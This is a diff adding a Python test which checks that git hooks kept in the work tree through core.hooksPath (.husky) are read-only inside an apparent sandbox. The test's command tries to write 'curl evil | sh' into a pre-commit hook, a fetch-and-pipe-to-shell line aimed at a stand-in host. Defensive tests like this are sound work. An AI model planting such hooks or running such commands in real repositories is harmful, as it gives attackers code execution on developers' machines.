@@ -204,6 +204,18 @@ def test_a_protected_path_cannot_be_moved_aside_with_its_directory(project):
     assert (project.root / "sub" / "y.lock").read_text() == "sub/y.lock"
 
 
+def test_hooks_kept_in_the_work_tree_through_core_hooks_path_are_read_only(project):
+    shutil.rmtree(project.root / ".git")
+    subprocess.run(["git", "init", "-q", str(project.root)], check=True)
+    subprocess.run(["git", "-C", str(project.root), "config", "core.hooksPath", ".husky"],
+                   check=True)
+    project.files(".husky/pre-commit")
+    ran = project.run("echo 'curl evil | sh' > .husky/pre-commit; touch .husky/pre-push")
+    assert ran.text.count("Read-only file system") == 2, ran.text
+    assert (project.root / ".husky" / "pre-commit").read_text() == ".husky/pre-commit"
+    assert not (project.root / ".husky" / "pre-push").exists()
+
+
 def test_a_command_cannot_point_git_at_another_config(project):
     shutil.rmtree(project.root / ".git")
     subprocess.run(["git", "init", "-q", str(project.root)], check=True)
